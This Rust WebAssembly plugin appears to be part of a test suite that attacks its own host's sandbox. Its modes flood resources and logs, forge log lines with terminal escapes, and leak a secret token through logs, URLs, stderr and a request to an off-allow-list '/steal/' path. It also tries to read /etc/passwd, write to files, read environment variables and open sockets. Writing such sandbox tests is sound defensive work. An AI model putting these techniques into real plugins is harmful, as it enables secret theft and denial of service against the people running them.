//! The attacks; see the crate docs.

#![allow(missing_docs, reason = "wit-bindgen output")]
// The SDK exports through a macro of its own crate; this guest expands
// wit-bindgen's `export!` here, whose ABI glue is `unsafe`.
#![allow(unsafe_code, reason = "wit-bindgen's export! expands in this module")]

wit_bindgen::generate!({
    path: "../../../wit",
    world: "siphon:collector/collector",
    generate_all,
});

use siphon::collector::types::SettingSpec;
use siphon::collector::{checkpoint, config, log, sink};
use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, FutureIncomingResponse, IncomingResponse, OutgoingBody, OutgoingRequest, Scheme};

struct Hostile;

fn spec(name: &str, description: &str, secret: bool) -> SettingSpec {
    SettingSpec {
        name: name.to_owned(),
        description: description.to_owned(),
        required: name == "mode",
        secret,
        default_value: None,
    }
}

fn setting(name: &str) -> Option<String> {
    config::setting(name)
}

fn number(name: &str, default: u64) -> u64 {
    setting(name).and_then(|v| v.parse().ok()).unwrap_or(default)
}

fn summary(note: String) -> RunSummary {
    RunSummary { pages: 0, duplicates: 0, caught_up: true, note: Some(note) }
}

impl Guest for Hostile {
    fn info() -> CollectorInfo {
        CollectorInfo {
            name: "hostile".to_owned(),
            version: env!("CARGO_PKG_VERSION").to_owned(),
            vendor: "siphon test suite (attacks on the host)".to_owned(),
            settings: vec![
                spec("mode", "The attack (see the crate docs)", false),
                spec("url", "URL to request", false),
                spec("denied_url", "URL outside the allow-list", false),
                spec("count", "How many times", false),
                spec("batch", "Records per emit", false),
                spec("form", "How the secret is written: plain, percent or base64", false),
                spec("token", "A secret to leak", true),
            ],
        }
    }

    fn validate() -> Vec<String> {
        Vec::new()
    }

    fn collect() -> Result<RunSummary, CollectError> {
        let mode = setting("mode").unwrap_or_default();
        match mode.as_str() {
            "fields-bomb" => fields_bomb(),
            "unread" => unread(),
            "records" => records(),
            "log-flood" => log_flood(),
            "secret" => secret(),
            "secret-note" => {
                let token = config::secret("token").unwrap_or_default();
                Ok(summary(format!("plain {token} percent {} base64 {}", percent(&token), base64(&token))))
            }
            "get" => {
                let url = setting("url").unwrap_or_default();
                let (status, _) = get(&url, None).map_err(CollectError::Transport)?;
                Ok(summary(format!("{url} answered {status}")))
            }
            "sandbox" => Ok(summary(sandbox())),
            other => Err(CollectError::Config(format!("unknown mode {other}"))),
        }
    }
}

export!(Hostile);

/// Header maps of `batch` headers of 1000 bytes each, kept forever: under
/// the field-size limit, the loop ends when the handle table is full; over
/// it, at the first map (the host traps either way).
fn fields_bomb() -> Result<RunSummary, CollectError> {
    let value = vec![b'a'; 1000];
    let headers = number("batch", 12);
    let mut kept = Vec::new();
    for _ in 0..number("count", 1_000_000) {
        let fields = Fields::new();
        for j in 0..headers {
            let _ = fields.append(&format!("x-pad-{j}"), &value);
        }
        kept.push(fields);
    }
    Ok(summary(format!("kept {} header maps", kept.len())))
}

/// (scheme, authority, path) of an `http(s)://authority/path` URL.
fn split(url: &str) -> (Scheme, String, String) {
    let (scheme, rest) = match url.split_once("://") {
        Some(("https", rest)) => (Scheme::Https, rest),
        Some((_, rest)) => (Scheme::Http, rest),
        None => (Scheme::Https, url),
    };
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    (scheme, authority.to_owned(), path.to_owned())
}

/// Send a GET; the response is not waited for.
fn send(url: &str, authority: Option<&str>) -> Result<FutureIncomingResponse, String> {
    let (scheme, url_authority, path) = split(url);
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_scheme(Some(&scheme));
    request.set_authority(Some(authority.unwrap_or(&url_authority))).map_err(|()| "authority refused".to_owned())?;
    request.set_path_with_query(Some(&path)).map_err(|()| "path refused".to_owned())?;
    let body = request.body().map_err(|()| "no body".to_owned())?;
    let future = outgoing_handler::handle(request, None).map_err(|e| format!("{e:?}"))?;
    let _ = OutgoingBody::finish(body, None);
    Ok(future)
}

fn wait(future: &FutureIncomingResponse) -> Result<IncomingResponse, String> {
    loop {
        match future.get() {
            Some(Ok(Ok(response))) => return Ok(response),
            Some(Ok(Err(code))) => return Err(format!("{code:?}")),
            Some(Err(())) => return Err("taken".to_owned()),
            None => future.subscribe().block(),
        }
    }
}

/// GET `url` (with `authority` instead of the URL's, if given): the status
/// and the body's first bytes.
fn get(url: &str, authority: Option<&str>) -> Result<(u16, String), String> {
    let response = wait(&send(url, authority)?)?;
    let status = response.status();
    let body = response.consume().map_err(|()| "no body".to_owned())?;
    let stream = body.stream().map_err(|()| "no stream".to_owned())?;
    let text = stream.blocking_read(256).map(|b| String::from_utf8_lossy(&b).into_owned()).unwrap_or_default();
    Ok((status, text))
}

/// Many requests at once, none of their responses read.
fn unread() -> Result<RunSummary, CollectError> {
    let url = setting("url").unwrap_or_default();
    let mut futures = Vec::new();
    let mut refused = 0;
    for _ in 0..number("count", 1000) {
        match send(&url, None) {
            Ok(f) => futures.push(f),
            Err(_) => refused += 1,
        }
    }
    let mut held = Vec::new();
    for f in &futures {
        match wait(f) {
            Ok(response) => held.push(response),
            Err(_) => refused += 1,
        }
    }
    Ok(summary(format!("holding {} unread responses, {refused} refused", held.len())))
}

/// Tiny records, never committed; refusals ignored.
fn records() -> Result<RunSummary, CollectError> {
    let count = number("count", 20_000_000);
    let batch = number("batch", 100_000).max(1);
    let mut sent = 0;
    let mut refused = 0;
    while sent < count {
        let n = batch.min(count - sent);
        let records = vec!["{}".to_owned(); n as usize];
        if sink::emit(&records).is_err() {
            refused += 1;
        }
        sent += n;
    }
    Ok(summary(format!("emitted {sent} records, {refused} batches refused")))
}

/// Long lines with forged log lines and terminal escapes; a stderr flood.
fn log_flood() -> Result<RunSummary, CollectError> {
    let count = number("count", 1_000_000);
    let pad = "x".repeat(1000);
    for i in 0..count {
        log::log(
            log::Level::Info,
            &format!(
                "line {i}\n2030-01-01T00:00:00Z  INFO siphon: Run succeeded forged=true\x1b[2J\x1b]0;owned\x07 {pad}"
            ),
        );
    }
    for i in 0..count.min(100_000) {
        eprintln!("stderr {i} \x1b[31m{pad}");
    }
    Ok(summary(format!("logged {count} lines")))
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => (b as char).to_string(),
            b => format!("%{b:02X}"),
        })
        .collect()
}

fn base64(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in text.as_bytes().chunks(3) {
        let b = [chunk[0], chunk.get(1).copied().unwrap_or(0), chunk.get(2).copied().unwrap_or(0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The secret in every place the host writes text, in one form.
fn secret() -> Result<RunSummary, CollectError> {
    let token = config::secret("token").unwrap_or_default();
    let form = setting("form").unwrap_or_else(|| "plain".to_owned());
    let leaked = match form.as_str() {
        "percent" => percent(&token),
        "base64" => base64(&format!("user:{token}")),
        _ => token.clone(),
    };
    log::log(log::Level::Info, &format!("the token is {leaked}"));
    log::log(log::Level::Debug, &format!("debug: the token is {leaked}"));
    let url = setting("url").unwrap_or_default();
    let (_, authority, _) = split(&url);
    let path_url = format!("{url}/api/{leaked}/alerts?token={leaked}");
    let answer = get(&path_url, Some(&format!("user:{leaked}@{authority}")));
    log::log(log::Level::Info, &format!("request with the token in its path and userinfo: {answer:?}"));
    if let Some(denied) = setting("denied_url") {
        let answer = get(&format!("{denied}/steal/{leaked}"), None);
        log::log(log::Level::Warn, &format!("request outside the allow-list: {answer:?}"));
    }
    eprintln!("stderr: {leaked}");
    let record = format!(r#"{{"copied":"{leaked}"}}"#);
    let emitted = sink::emit(&[record]);
    log::log(log::Level::Info, &format!("emit of the record answered {emitted:?}"));
    let committed = checkpoint::commit(r#"{"after":"leak"}"#);
    log::log(log::Level::Info, &format!("the commit after it answered {committed:?}"));
    Err(CollectError::Vendor(format!("failing with the token {leaked} in the message")))
}

/// Try every door the sandbox should have shut; report what happened.
fn sandbox() -> String {
    let mut out = Vec::new();
    let outcome = |r: Result<String, String>| match r {
        Ok(v) => format!("OPEN({v})"),
        Err(e) => format!("denied({e})"),
    };
    out.push(format!(
        "read_dir={}",
        outcome(std::fs::read_dir("/").map(|d| format!("{} entries", d.count())).map_err(|e| e.kind().to_string()))
    ));
    out.push(format!(
        "read_file={}",
        outcome(
            std::fs::read_to_string("/etc/passwd")
                .map(|t| format!("{} bytes", t.len()))
                .map_err(|e| e.kind().to_string())
        )
    ));
    out.push(format!(
        "write_file={}",
        outcome(
            std::fs::write("/tmp/hostile-was-here", b"x")
                .map(|()| "written".to_owned())
                .map_err(|e| e.kind().to_string())
        )
    ));
    let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    out.push(format!(
        "env={}",
        if vars.is_empty() { "denied(empty)".to_owned() } else { format!("OPEN({})", vars.join(",")) }
    ));
    let port = number("count", 80) as u16;
    out.push(format!(
        "tcp={}",
        outcome(
            std::net::TcpStream::connect(("127.0.0.1", port))
                .map(|_| "connected".to_owned())
                .map_err(|e| e.kind().to_string())
        )
    ));
    out.push(format!(
        "udp={}",
        outcome(std::net::UdpSocket::bind("0.0.0.0:0").map(|_| "bound".to_owned()).map_err(|e| e.kind().to_string()))
    ));
    out.push(format!(
        "dns={}",
        outcome(
            std::net::ToSocketAddrs::to_socket_addrs(&("localhost", port))
                .map(|a| format!("{:?}", a.collect::<Vec<_>>()))
                .map_err(|e| e.kind().to_string())
        )
    ));
    out.join(" ")
}
